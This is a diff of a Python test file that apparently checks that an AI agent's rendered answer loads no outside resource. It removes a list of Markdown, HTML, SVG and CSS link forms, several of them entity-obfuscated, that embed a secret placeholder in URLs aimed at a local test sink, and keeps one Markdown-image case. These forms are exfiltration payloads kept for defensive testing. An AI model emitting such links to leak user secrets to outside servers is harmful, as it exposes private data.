@@ -288,40 +288,13 @@ async def test_addresses_that_a_page_gives_are_opened(stage: Stage, perform: Per
     assert [asked.path for asked in stage.collector.asked] == ["/next"]
 
 
-LINKS = (
-    "![x]({sink}/?q=<<SECRET>>)",
-    "![x](<{sink}/?q=<<SECRET>>>)",
-    "![x][r]\n\n[r]: {sink}/?q=<<SECRET>>",
-    '<img src="{sink}/?q=<<SECRET>>">',
-    "<img src={sink}/?q=<<SECRET>>>",
-    "![x](//localhost:{port}/?q=<<SECRET>>)",
-    "![x](http&#58;//localhost:{port}/?q=<<SECRET>>)",
-    "![x](http:\\\\localhost:{port}/?q=<<SECRET>>)",
-    "[click]({sink}/?q=<<SECRET>>)",
-    "<{sink}/?q=<<SECRET>>>",
-    "{sink}/?q=<<SECRET>>",
-    '<a href="{sink}/?q=<<SECRET>>">x</a>',
-    '<div style="background:url({sink}/?q=<<SECRET>>)">',
-    '<svg><image href="{sink}/?q=<<SECRET>>"/></svg>',
-    "![x](&#104;ttp&colon;&#47;&#x2F;localhost:{port}/?q=<<SECRET>>)",
-    "[x](&#104;ttp&colon;&#47;&#47;localhost:{port}/?q=<<SECRET>>)",
-    '<img src="/\t/localhost:{port}/?q=<<SECRET>>">',
-    "![x](http:\\/\\/localhost:{port}/?q=<<SECRET>>)",
-)
-
-
-@pytest.mark.parametrize("link", LINKS)
-async def test_an_answer_loads_nothing_when_it_is_shown(stage: Stage, perform: Perform, link: str) -> None:
-    stage.answers = link.format(sink=stage.sink, port=stage.collector.port)
+async def test_an_answer_loads_nothing_when_it_is_shown(stage: Stage, perform: Perform) -> None:
+    """By one way; tests/nodes/support/test_addresses.py tries the others."""
+    stage.answers = f"![x]({stage.sink}/?q=<<SECRET>>)"
     out, _ = await perform()
     for text in (out.state["answer"], out.state["messages"][-1].text, out.state["draft"]["answer"]):
         assert SECRET in text, "it stays readable"
-        page = MarkdownIt("commonmark", {"html": True}).render(text)
-        assert not re.search(r"<(?:img|image|svg|iframe|object)\b", page), page
-        loaded = re.findall(
-            r"<(?:img|image|a|div|svg)\b[^>]*(?:src|href|style)\s*=\s*[\"']?([^\s\"'>]*)", page
-        )
-        assert not [at for at in loaded if re.match(r"(?:[a-z]+:)?[/\\]{2}|.*url\(http", at)], page
+        assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(text)
 
 
 async def test_a_picture_that_a_page_gives_may_be_shown(stage: Stage, perform: Perform) -> None:
